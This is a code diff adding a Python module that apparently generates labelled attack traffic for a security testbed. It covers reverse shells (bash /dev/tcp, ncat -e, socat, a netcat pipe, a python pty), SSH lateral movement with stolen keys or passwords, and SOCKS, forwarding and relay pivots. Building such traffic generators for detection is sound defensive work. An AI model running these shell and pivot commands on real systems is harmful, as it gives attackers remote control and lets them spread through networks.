@@ -1,0 +1,183 @@
+"""What follows a break-in: shells that call home, steps to other hosts, and hosts that stand between."""
+
+from testbed.attacks.material import (INSIDE, SSH, ANYWHERE, certificate, collector, key_of, listening, pause, others, words)
+from testbed.catalogue import Assault, attack
+
+SHELL = "T1059.004"
+LATERAL = "T1021.004"
+PROXY = "T1090.001"
+COMMANDS = ("id", "uname -a", "cat /etc/passwd", "ls -la /home", "ps aux", "cat /proc/net/tcp", "cat /etc/os-release", "df -h",
+            "find /usr -maxdepth 2 | head -300", "ls -laR /etc/ssl | head -400", "cat /etc/services", "hostname", "w", "date",
+            "cat /etc/hosts", "ip address", "env", "ls -la /var/log", "find / -perm -4000 -type f 2>/dev/null | head -40",
+            "cat /etc/crontab", "mount | head -20", "whoami", "cat /etc/resolv.conf")
+
+
+def typed(c) -> str:
+    """Shell commands that print what somebody types into a shell, at the pace of a person or a script."""
+    pace = c.choose((0.2, 0.8), (0.6, 3.0), (1.0, 5.0))
+    asked = ["id", *c.random.sample(COMMANDS[1:], c.between(3, 8))]
+    steps = "; ".join(f"sleep {c.between(*pace)}; echo '{command}'" for command in asked)
+    return f"({steps}; sleep {c.between(*pace)}; echo exit; sleep 1)"
+
+
+def shell(c, connect, listen: str = "ncat -l -p {port}") -> Assault:
+    """A shell that connects to the attacker; `connect` makes the command of address and port."""
+    host = collector(c)
+    port = c.choose(4444, 1337, 8081, 53535, 5555, 6666, 9090, 8088, *(c.between(10000, 60000) for _ in range(6)))
+    listener = f"{typed(c)} | timeout 40 {listen.format(port=port)}"
+    return Assault(connect(host.address, port), **listening(listener, host))
+
+
+def reverse_shell(tool: str, packages=()):
+    return attack("reverse_shell", technique=SHELL, tool=tool, origins=INSIDE, packages=(*packages, "ncat"), seconds=45)
+
+
+@reverse_shell("bash")
+def bash_shell(c):
+    program = c.choose("bash -i", "sh -i", "bash")
+    return shell(c, lambda address, port: f'bash -c "{program} >& /dev/tcp/{address}/{port} 0>&1"')
+
+
+@reverse_shell("ncat")
+def ncat_shell(c):
+    return shell(c, lambda address, port: f"ncat {address} {port} {c.choose('-e', '--sh-exec')} {c.choose('/bin/bash', '/bin/sh')}")
+
+
+@reverse_shell("ncat --ssl", ("openssl",))
+def ncat_tls_shell(c):
+    return shell(c, lambda address, port: f"ncat --ssl {address} {port} -e /bin/bash",
+                 f"bash -c '{certificate(c)}; exec ncat -l -p {{port}} --ssl --ssl-cert cert.pem --ssl-key key.pem'")
+
+
+@reverse_shell("socat", ("socat",))
+def socat_shell(c):
+    program = c.choose("EXEC:/bin/sh", 'EXEC:"bash -li",pty,stderr,setsid,sigint,sane', 'EXEC:"bash -i",pty,stderr')
+    return shell(c, lambda address, port: f"socat -T 20 {program} TCP:{address}:{port}")
+
+
+@reverse_shell("socat openssl", ("socat", "openssl"))
+def socat_tls_shell(c):
+    return shell(c, lambda address, port: f'socat -T 20 EXEC:"bash -li",pty,stderr,setsid,sane OPENSSL:{address}:{port},verify=0',
+                 f"bash -c '{certificate(c)}; exec socat - OPENSSL-LISTEN:{{port}},cert=cert.pem,key=key.pem,verify=0,reuseaddr'")
+
+
+@reverse_shell("netcat pipe", ("netcat-openbsd",))
+def pipe_shell(c):
+    return shell(c, lambda address, port: f"mkfifo pipe; cat pipe | /bin/sh -i 2>&1 | nc.openbsd -q1 {address} {port} > pipe")
+
+
+@reverse_shell("python", ("python3",))
+def python_shell(c):
+    code = ("import os,pty,socket,sys; s=socket.create_connection((sys.argv[1],int(sys.argv[2])));"
+            " [os.dup2(s.fileno(),n) for n in range(3)]; " + c.choose('pty.spawn("/bin/bash")', 'os.execv("/bin/sh",["sh","-i"])'))
+    return shell(c, lambda address, port: f"timeout 40 python3 -c '{code}' {address} {port}")
+
+
+def intruding(c, options: str = "") -> tuple[str, str]:
+    """A user, and how to begin a command of an SSH client as that user: with a stolen key or a stolen password."""
+    user, key = key_of(c)
+    if c.chance(0.5):
+        return user.name, f"timeout 9 ssh {SSH} {key} {options}"
+    return user.name, f"sshpass -p '{user.password}' timeout 9 ssh {SSH} -o PubkeyAuthentication=no {options}"
+
+
+def steps(c) -> str:
+    """A few commands for one session."""
+    return "; ".join(c.random.sample(COMMANDS, c.between(2, 5))).replace('"', "'")
+
+
+@attack("lateral_ssh", technique=LATERAL, tool="ssh", origins=INSIDE, needs=("ssh",), packages=("openssh-client", "sshpass"),
+        seconds=50)
+def ssh_hops(c):
+    user, client = intruding(c)
+    targets = ssh_servers(c, c.between(2, 6))
+    return Assault(f"for target in {targets}; do {client} {user}@$target \"{steps(c)}\"; {pause(c.between(0.2, 3.0))};"
+                   f" {client} {user}@$target \"{steps(c)}\"; {pause(c.between(0.2, 2.0))}; done")
+
+
+@attack("lateral_ssh", technique=LATERAL, tool="scp", origins=INSIDE, needs=("ssh",), packages=("openssh-client",), seconds=50)
+def scp_hops(c):
+    user, key = key_of(c)
+    name = f".{c.choose('cache', 'x', 'svc', 'upd')}{c.between(1, 9999)}"
+    copied = c.choose("/bin/true", "/bin/ls", "/bin/cp", "/bin/bash")
+    return Assault(f"for target in {ssh_servers(c, c.between(2, 5))}; do timeout 9 scp -q {SSH} {key} {copied}"
+                   f" {user.name}@$target:{name}; timeout 9 ssh {SSH} {key} {user.name}@$target 'chmod +x {name}; ls -la {name};"
+                   f" rm -f {name}; {c.choose('id', 'w', 'last | head -3')}'; {pause(c.between(0.2, 2.5))}; done")
+
+
+@attack("lateral_ssh", technique=LATERAL, tool="dbclient", origins=INSIDE, needs=("ssh",), packages=("dropbear-bin",),
+        seconds=50)
+def dropbear_hops(c):
+    user = c.user()
+    return Assault(f"export DROPBEAR_PASSWORD='{user.password}'; for target in {ssh_servers(c, c.between(2, 5))}; do timeout 9"
+                   f" dbclient -y -y {user.name}@$target \"{steps(c)}\"; {pause(c.between(0.3, 2.5))}; {c.choose('tar c /etc/ssl', 'cat /bin/ls')}"
+                   f" 2>/dev/null | timeout 9 dbclient -y -y {user.name}@$target 'cat > .k; rm -f .k'; done")
+
+
+@attack("lateral_ssh", technique=LATERAL, tool="sftp", origins=INSIDE, needs=("ssh",), packages=("openssh-client",), seconds=50)
+def sftp_hops(c):
+    user, key = key_of(c)
+    batch = c.write("batch", "\n".join(c.random.sample(["ls -la", "ls /home", "ls /etc", "get /etc/passwd", "get /etc/hosts",
+                                                        "get notes.txt", "get report.pdf", "put /bin/true .t", "df -h"],
+                                                       c.between(3, 7))) + "\n")
+    return Assault(f"for target in {ssh_servers(c, c.between(2, 5))}; do sed 's/^\\(.\\)/-\\1/' {batch} | timeout 12 sftp -q {SSH} {key}"
+                   f" {user.name}@$target; {pause(c.between(0.3, 2.5))}; done")
+
+
+def ssh_servers(c, count: int) -> str:
+    found = [host.address for host in c.network.servers("ssh") if host is not c.host]
+    return " ".join(c.random.sample(found, min(count, len(found))))
+
+
+def seen_from(c, pivot: str, count: int) -> list[str]:
+    """Other servers, as reached through a pivot."""
+    return [address for address in others(c, 99, servers_only=True) if address != pivot][:count]
+
+
+@attack("pivot_socks", technique=PROXY, tool="ssh -D", origins=INSIDE, needs=("ssh", "web"),
+        packages=("openssh-client", "proxychains4", "nmap", "curl"), seconds=40)
+def ssh_proxy(c):
+    user, key = key_of(c)
+    pivot, port = c.server("ssh").address, c.between(1080, 1999)
+    c.write("proxychains.conf", "strict_chain\ntcp_read_time_out 2500\ntcp_connect_time_out 2500\n[ProxyList]\n"
+                                f"socks4 127.0.0.1 {port}\n")
+    probed = ",".join(map(str, c.random.sample([21, 22, 25, 80, 110, 143, 389, 443, 445, 873, 3306, 5432, 6379, 8080, 8888],
+                                               c.between(4, 9))))
+    web = c.server("web").address
+    scan = f"proxychains4 -q -f proxychains.conf nmap -n -Pn -sT -p {probed} {' '.join(seen_from(c, pivot, c.between(1, 3)))};"
+    return Assault(words(f"ssh {SSH} {key} -N -D 127.0.0.1:{port} {user.name}@{pivot} & proxy=$!; sleep 2;",
+                         scan if c.chance(0.7) else "",
+                         f"for round in $(seq {c.between(2, 8)}); do curl -s -m 5 -x socks5://127.0.0.1:{port} -o /dev/null"
+                         f" http://{web}/; {pause(c.between(0.1, 2.0))}; done; kill $proxy; sleep 1"))
+
+
+@attack("pivot_socks", technique=PROXY, tool="ssh -L", origins=INSIDE, needs=("ssh", "web"),
+        packages=("openssh-client", "curl"), seconds=40)
+def ssh_forward(c):
+    user, key = key_of(c)
+    pivot, port = c.server("ssh").address, c.between(9000, 19000)
+    web = c.server("web").address
+    target = seen_from(c, pivot, 1)[0]
+    return Assault(f"ssh {SSH} {key} -N -L {port}:{web}:80 -L {port + 1}:{target}:22 {user.name}@{pivot} & proxy=$!; sleep 2;"
+                   f" for round in $(seq {c.between(2, 6)}); do curl -s -m 5 -o /dev/null http://127.0.0.1:{port}/; timeout 7 ssh {SSH}"
+                   f" {key} -p {port + 1} {user.name}@127.0.0.1 \"{steps(c)}\"; {pause(c.between(0.2, 2.0))}; done; kill $proxy; sleep 1")
+
+
+@attack("pivot_socks", technique=PROXY, tool="ssh -J", origins=INSIDE, needs=("ssh",), packages=("openssh-client",), seconds=40)
+def ssh_jump(c):
+    user, key = key_of(c)
+    pivot = c.server("ssh").address
+    jump = f"-o ProxyCommand='ssh {SSH} {key} -W %h:%p {user.name}@{pivot}'"
+    return Assault(f"for target in {' '.join(seen_from(c, pivot, c.between(1, 3)))}; do for round in $(seq {c.between(1, 3)}); do"
+                   f" timeout 10 ssh {SSH} {key} {jump} {user.name}@$target \"{steps(c)}\"; {pause(c.between(0.3, 2.0))}; done; done")
+
+
+@attack("pivot_socks", technique=PROXY, tool="socat relay", origins=INSIDE, needs=("ssh", "web"),
+        packages=("openssh-client", "socat", "curl"), seconds=40)
+def relayed(c):
+    user, key = key_of(c)
+    pivot, port = c.server("ssh").address, c.between(20000, 29000)
+    target = c.choose(c.server("web").address)
+    return Assault(f"ssh {SSH} {key} {user.name}@{pivot} 'timeout 25 socat TCP-LISTEN:{port},fork,reuseaddr TCP:{target}:80' &"
+                   f" relay=$!; sleep 2; for round in $(seq {c.between(3, 10)}); do curl -s -m 5 -o /dev/null http://{pivot}:{port}/;"
+                   f" {pause(c.between(0.1, 2.0))}; done; kill $relay; sleep 1")
